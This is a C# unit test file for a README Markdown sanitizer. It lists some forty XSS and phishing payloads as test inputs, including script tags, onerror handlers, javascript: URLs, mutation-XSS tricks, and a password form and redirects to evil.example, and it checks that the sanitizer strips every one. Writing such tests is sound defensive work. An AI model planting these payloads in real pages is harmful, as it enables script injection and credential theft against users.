using AngleSharp.Html.Parser;
using Quilt.Catalog.Readmes;

namespace Quilt.Tests.Catalog;

public sealed class ReadmeSanitizerTests
{
    private static readonly HashSet<string> Attributes =
    [
        "alt", "aria-label", "checked", "class", "colspan", "disabled", "height", "href", "id", "open", "rel", "reversed",
        "rowspan", "scope", "span", "src", "start", "tabindex", "title", "type", "width",
    ];

    private static readonly HashSet<string> NeverThere =
    [
        "script", "style", "iframe", "object", "embed", "form", "button", "textarea", "select", "link", "meta", "base", "svg",
        "math", "template", "noscript", "audio", "video", "frameset", "marquee", "portal", "dialog", "slot", "canvas",
    ];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/signout\">x</a>",
        "<a href=\"https://x\" onclick=\"alert(1)\" style=\"position:fixed;inset:0\" target=\"_top\">x</a>",
        "[x](javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "![x](javascript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>*{display:none}</style>",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input type=\"password\" name=\"password\"><button>Sign in</button></form>",
        "<input type=\"image\" src=\"https://evil.example/x.png\">",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a id=\"main\" name=\"main\" href=\"#main\" class=\"button primary skip\">x</a>",
        "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "`<script>alert(1)</script>`",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_that_runs_or_deceives_comes_through(string markdown)
    {
        var html = Render(markdown);
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, NeverThere);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
            Assert.True(element.LocalName != "input" || (element.GetAttribute("type") == "checkbox" && element.HasAttribute("disabled")), html);
            Assert.True(element.Id is not { Length: > 0 } id || id.StartsWith("readme-", StringComparison.Ordinal), html);
            Assert.DoesNotContain("primary", element.ClassList);
            if (element.GetAttribute("href") is { } href)
            {
                Assert.Matches("^(https?://|mailto:|#readme-)", href);
            }

            if (element.GetAttribute("src") is { } src)
            {
                Assert.Matches("^data:image/(png|jpeg|gif|webp);", src);
            }
        }
    }

    [Theory]
    [InlineData("# Big *one*", "<h1 id=\"readme-big-one\">Big <em>one</em></h1>")]
    [InlineData("[there](#big-one)", "<p><a href=\"#readme-big-one\">there</a></p>")]
    [InlineData("[site](https://example.com/a?b=c)", "<p><a href=\"https://example.com/a?b=c\" rel=\"nofollow noopener noreferrer\">site</a></p>")]
    [InlineData("[file](docs/a.md) beside it", "<p>file beside it</p>")]
    [InlineData("![a flower](https://example.com/f.png)", "<p><a href=\"https://example.com/f.png\" rel=\"nofollow noopener noreferrer\">a flower</a></p>")]
    [InlineData("![a flower](images/f.png)", "<p>a flower</p>")]
    [InlineData("[![build](https://ci.example/b.svg)](https://ci.example/)", "<p><a href=\"https://ci.example/\" rel=\"nofollow noopener noreferrer\">build</a></p>")]
    [InlineData("![dot](data:image/png;base64,iVBORw0KGgo=)", "<p><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\"></p>")]
    [InlineData("    code < here", "<pre tabindex=\"0\"><code>code &lt; here\n</code></pre>")]
    [InlineData("H~2~O 10^3^ ~~no~~", "<p>H<sub>2</sub>O 10<sup>3</sup> <del>no</del></p>")]
    [InlineData("<details><summary>More</summary>\n\n**in**\n\n</details>", "<details><summary>More</summary>\n<p><strong>in</strong></p>\n</details>")]
    public void What_readmes_are_made_of_stays(string markdown, string html) => Assert.Equal(html, Render(markdown).Trim());

    [Fact]
    public void A_table_scrolls_in_a_frame_that_the_keyboard_reaches() =>
        Assert.StartsWith("<div class=\"scroll\" tabindex=\"0\"><table>", Render("| a |\n|---|\n| b |"), StringComparison.Ordinal);

    [Fact]
    public void Formatting_that_would_multiply_is_shown_as_text()
    {
        var tags = string.Concat(Enumerable.Range(0, 2_000).Select(number => $"<b a{number}=1>"));
        var paragraphs = string.Concat(Enumerable.Repeat("a\n\n", 20_000));

        var html = ReadmeMarkdown.ToHtml(tags + "\n\n" + paragraphs);

        Assert.DoesNotContain("<b ", html, StringComparison.Ordinal);
        Assert.Contains("&lt;b a1999=1&gt;", html, StringComparison.Ordinal);
    }

    private static string Render(string markdown) => new ReadmeSanitizer().Sanitize(ReadmeMarkdown.ToHtml(markdown));
}
